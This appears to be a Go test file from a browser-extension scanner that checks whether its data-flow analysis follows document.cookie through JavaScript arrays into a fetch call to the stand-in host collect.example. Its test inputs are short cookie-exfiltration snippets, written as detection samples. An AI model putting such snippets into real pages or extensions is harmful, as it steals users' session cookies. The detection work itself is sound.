package flow

import (
	"slices"
	"strings"
	"testing"

	"github.com/extwatch/extwatch/signatures/behavior"
)

// A list may be made by Array without new, and fill gives the list itself: what is written to it later is in it.
func TestFlowsThroughFilledLists(t *testing.T) {
	for code, want := range map[string]bool{
		`const l = Array(12).fill(""); l[n] = document.cookie; fetch("https://collect.example/", {body: l.join(" ")})`:        true,
		`const l = new Array(12).fill(""); l[3] = document.cookie; fetch("https://collect.example/", {body: l.join(" ")})`:    true,
		`const l = Array(2); l.fill(document.cookie); fetch("https://collect.example/", {body: JSON.stringify(l)})`:           true,
		`const l = Array(document.cookie); fetch("https://collect.example/", {body: JSON.stringify(l)})`:                      true,
		`const l = Array(12).fill(""); l[n] = document.cookie.length; fetch("https://collect.example/", {body: l.join(" ")})`: false,
	} {
		got := flowTexts(analyzeText(t, testUnit(t, "c.js", behavior.Content, code)))
		if has := slices.ContainsFunc(got, func(s string) bool { return strings.HasSuffix(s, "> fetch > collect.example") }); has != want {
			t.Errorf("%s: flows %v", code, got)
		}
	}
}
